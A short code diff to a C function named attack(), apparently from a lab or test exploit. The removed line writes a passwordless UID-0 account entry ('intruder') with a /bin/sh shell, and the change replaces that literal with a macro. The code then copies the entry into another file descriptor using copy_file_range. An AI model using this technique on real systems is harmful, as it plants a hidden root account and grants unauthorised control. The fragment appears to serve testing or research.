@@ -18,7 +18,7 @@ void attack(void)
 
 	if (fd < 0)
 		no_effect(errno);
-	drop_text("intruder::0:0::/:/bin/sh\n", "/tmp/lab-copy");
+	drop_text(INTRUDER_ENTRY, "/tmp/lab-copy");
 	from = open("/tmp/lab-copy", O_RDONLY | O_CLOEXEC);
 	if (copy_file_range(from, NULL, fd, NULL, 16, 0) != 16)
 		error = errno;
